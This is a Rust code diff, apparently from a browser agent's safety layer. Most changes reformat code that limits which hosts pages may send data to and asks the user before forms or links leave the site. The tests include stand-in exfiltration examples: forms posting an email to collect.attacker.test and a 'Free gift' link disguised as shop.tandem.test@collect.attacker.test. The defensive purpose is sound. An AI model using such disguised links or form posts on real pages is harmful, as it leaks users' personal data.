@@ -82,7 +82,7 @@ impl Approved {
     /// The approved hosts, sorted (the rule's `excludedRequestDomains`).
     pub fn hosts(&self) -> Vec<String> {
         let mut hosts = self.hosts.clone();
-        hosts.sort();
+        crate::sort::sort(&mut hosts);
         hosts
     }
 }
@@ -90,7 +90,9 @@ impl Approved {
 /// `www.shop.example` and `shop.example` are one site to a person.
 fn bare(host: &str) -> String {
     let host = host.trim().trim_end_matches('.').to_ascii_lowercase();
-    host.strip_prefix("www.").map(str::to_string).unwrap_or(host)
+    host.strip_prefix("www.")
+        .map(str::to_string)
+        .unwrap_or(host)
 }
 
 /// The hosts written in a user's text: words shaped like `shop.example.com` (letters,
@@ -98,7 +100,9 @@ fn bare(host: &str) -> String {
 /// host of a written URL.
 pub fn hosts_named(text: &str) -> Vec<String> {
     let mut hosts = Vec::new();
-    for word in text.split(|c: char| c.is_whitespace() || matches!(c, ',' | ';' | '"' | '(' | ')' | '<' | '>' | '\'')) {
+    for word in text.split(|c: char| {
+        c.is_whitespace() || matches!(c, ',' | ';' | '"' | '(' | ')' | '<' | '>' | '\'')
+    }) {
         let candidate = if word.contains("://") {
             domain_of(word).unwrap_or_default()
         } else {
@@ -136,7 +140,7 @@ pub struct Firewall {
 impl Firewall {
     pub fn new(tabs: &[i32], approved: &Approved, frame_hosts: &[String]) -> Self {
         let mut tabs = tabs.to_vec();
-        tabs.sort_unstable();
+        crate::sort::sort(&mut tabs);
         tabs.dedup();
         let hosts = approved.hosts();
         let mut frames: Vec<String> = frame_hosts
@@ -144,7 +148,7 @@ impl Firewall {
             .map(|h| bare(h))
             .filter(|h| !h.is_empty() && !approved.allows(h))
             .collect();
-        frames.sort();
+        crate::sort::sort(&mut frames);
         frames.dedup();
         Firewall {
             tabs,
@@ -407,7 +411,12 @@ pub fn effect_of(
             .iter()
             .filter(|o| o.form == Some(form) && o.frame == el.frame)
             .filter(|o| matches!(o.tag.as_str(), "input" | "textarea" | "select"))
-            .filter(|o| !matches!(o.input_type().as_deref(), Some("submit" | "button" | "reset" | "image")))
+            .filter(|o| {
+                !matches!(
+                    o.input_type().as_deref(),
+                    Some("submit" | "button" | "reset" | "image")
+                )
+            })
             .filter_map(|o| {
                 let name = o.attr("name").filter(|n| !n.is_empty())?.to_string();
                 let value = if o.handle == el.handle {
@@ -462,7 +471,10 @@ pub fn effect_question(el: &Element, effect: &Effect) -> String {
                 .map(host_shown)
                 .unwrap_or_else(|| url.clone());
             let how = if *enter {
-                format!("Typing into {} and pressing Enter submits its form", seen_as(el))
+                format!(
+                    "Typing into {} and pressing Enter submits its form",
+                    seen_as(el)
+                )
             } else {
                 format!("Clicking {} submits its form", seen_as(el))
             };
@@ -512,7 +524,9 @@ mod tests {
 
     #[test]
     fn the_approved_hosts_are_the_tab_s_site_and_the_sites_the_user_wrote() {
-        let mut c = ctx("Compare prices on docs.example.org and https://Other.example/x, not badexample.org's");
+        let mut c = ctx(
+            "Compare prices on docs.example.org and https://Other.example/x, not badexample.org's",
+        );
         c.notes.push("also try news.example.net.".into());
         let a = Approved::of(&c);
         for yes in [
@@ -535,13 +549,20 @@ mod tests {
         ] {
             assert!(!a.allows(no), "{no}");
         }
-        assert_eq!(hosts_named("version 1.2 or e.g. or a.b.3"), Vec::<String>::new());
+        assert_eq!(
+            hosts_named("version 1.2 or e.g. or a.b.3"),
+            Vec::<String>::new()
+        );
     }
 
     #[test]
     fn the_rules_block_the_task_tabs_navigations_and_frame_posts_to_other_hosts() {
         let a = Approved::of(&ctx("buy a backpack"));
-        let fw = Firewall::new(&[9, 7, 9], &a, &["partner.tandem.test".into(), "shop.tandem.test".into()]);
+        let fw = Firewall::new(
+            &[9, 7, 9],
+            &a,
+            &["partner.tandem.test".into(), "shop.tandem.test".into()],
+        );
         assert_eq!(fw.tabs, vec![7, 9]);
         assert_eq!(fw.frame_hosts, vec!["partner.tandem.test"]);
         let rules = fw.rules();
@@ -571,8 +592,16 @@ mod tests {
             tab: None,
         };
         let q = held_question(&held);
-        assert!(q.starts_with("Send data to collect.attacker.test? The page tried to take this tab there"), "{q}");
-        assert!(q.contains("e = \u{201c}ada@example.com\u{201d}, n = \u{201c}1\u{201d}"), "{q}");
+        assert!(
+            q.starts_with(
+                "Send data to collect.attacker.test? The page tried to take this tab there"
+            ),
+            "{q}"
+        );
+        assert!(
+            q.contains("e = \u{201c}ada@example.com\u{201d}, n = \u{201c}1\u{201d}"),
+            "{q}"
+        );
 
         let mut form = BTreeMap::new();
         form.insert("email".to_string(), vec!["ada@example.com".to_string()]);
@@ -585,7 +614,10 @@ mod tests {
         };
         let q = held_question(&post);
         assert!(q.starts_with("Send data to collect.attacker.test (the address starts with \u{201c}shop.tandem.test@\u{201d}"), "{q}");
-        assert!(q.contains("A form in a frame of the page tried to submit there"), "{q}");
+        assert!(
+            q.contains("A form in a frame of the page tried to submit there"),
+            "{q}"
+        );
         assert!(q.contains("email = \u{201c}ada@example.com\u{201d}"), "{q}");
 
         let long = Held {
@@ -623,13 +655,18 @@ mod tests {
 
     #[test]
     fn typing_with_enter_or_clicking_verify_in_a_form_that_posts_elsewhere_is_an_effect() {
-        let target = serde_json::json!({"url": "https://collect.attacker.test/verify", "method": "post"});
-        let email = el(serde_json::json!({"handle": "d.1", "name": "Email", "form": 0,
-            "attrs": {"name": "email", "type": "email"}, "submitsTo": target}));
+        let target =
+            serde_json::json!({"url": "https://collect.attacker.test/verify", "method": "post"});
+        let email = el(
+            serde_json::json!({"handle": "d.1", "name": "Email", "form": 0,
+            "attrs": {"name": "email", "type": "email"}, "submitsTo": target}),
+        );
         let hidden_ref = el(serde_json::json!({"handle": "d.2", "form": 0,
             "attrs": {"name": "ref", "value": "shop"}, "submitsTo": target}));
-        let verify = el(serde_json::json!({"handle": "d.3", "tag": "button", "implicitRole": "button",
-            "text": "Verify", "form": 0, "submitsTo": target}));
+        let verify = el(
+            serde_json::json!({"handle": "d.3", "tag": "button", "implicitRole": "button",
+            "text": "Verify", "form": 0, "submitsTo": target}),
+        );
         let snap = page(vec![email.clone(), hidden_ref, verify.clone()]);
         let a = Approved::of(&ctx("sign up for the newsletter with ada@example.com"));
         let typing = Action::Type {
@@ -641,10 +678,14 @@ mod tests {
         let effect = effect_of(&typing, &email, &snap, &a).expect("an effect");
         let q = effect_question(&email, &effect);
         assert!(q.starts_with("Send this form to collect.attacker.test? Typing into the \u{201c}Email\u{201d} field and pressing Enter submits its form to collect.attacker.test (POST)"), "{q}");
-        assert!(q.contains("email = \u{201c}ada@example.com\u{201d}, ref = \u{201c}shop\u{201d}"), "{q}");
+        assert!(
+            q.contains("email = \u{201c}ada@example.com\u{201d}, ref = \u{201c}shop\u{201d}"),
+            "{q}"
+        );
         let click = Action::Click { element: 3 };
         let effect = effect_of(&click, &verify, &snap, &a).expect("an effect");
-        assert!(effect_question(&verify, &effect).contains("Clicking the \u{201c}Verify\u{201d} button submits its form"));
+        assert!(effect_question(&verify, &effect)
+            .contains("Clicking the \u{201c}Verify\u{201d} button submits its form"));
         // Typing without Enter sends nothing.
         let quiet = Action::Type {
             element: 1,
@@ -661,8 +702,10 @@ mod tests {
     #[test]
     fn a_link_to_another_host_is_an_effect_and_one_on_the_site_is_not() {
         let a = Approved::of(&ctx("find a backpack"));
-        let out = el(serde_json::json!({"tag": "a", "implicitRole": "link", "text": "Free gift",
-            "attrs": {"href": "https://shop.tandem.test@collect.attacker.test/dl?e=ada%40example.com"}}));
+        let out = el(
+            serde_json::json!({"tag": "a", "implicitRole": "link", "text": "Free gift",
+            "attrs": {"href": "https://shop.tandem.test@collect.attacker.test/dl?e=ada%40example.com"}}),
+        );
         let snap = page(vec![out.clone()]);
         let click = Action::Click { element: 1 };
         let effect = effect_of(&click, &out, &snap, &a).expect("an effect");
@@ -670,8 +713,15 @@ mod tests {
         let q = effect_question(&out, &effect);
         assert!(q.starts_with("Go to collect.attacker.test (the address starts with \u{201c}shop.tandem.test@\u{201d}"), "{q}");
         assert!(q.contains("e = \u{201c}ada@example.com\u{201d}"), "{q}");
-        for href in ["/product/1", "https://www.shop.tandem.test/cart", "#top", "mailto:x@y.z"] {
-            let link = el(serde_json::json!({"tag": "a", "implicitRole": "link", "attrs": {"href": href}}));
+        for href in [
+            "/product/1",
+            "https://www.shop.tandem.test/cart",
+            "#top",
+            "mailto:x@y.z",
+        ] {
+            let link = el(
+                serde_json::json!({"tag": "a", "implicitRole": "link", "attrs": {"href": href}}),
+            );
             assert_eq!(effect_of(&click, &link, &snap, &a), None, "{href}");
         }
     }
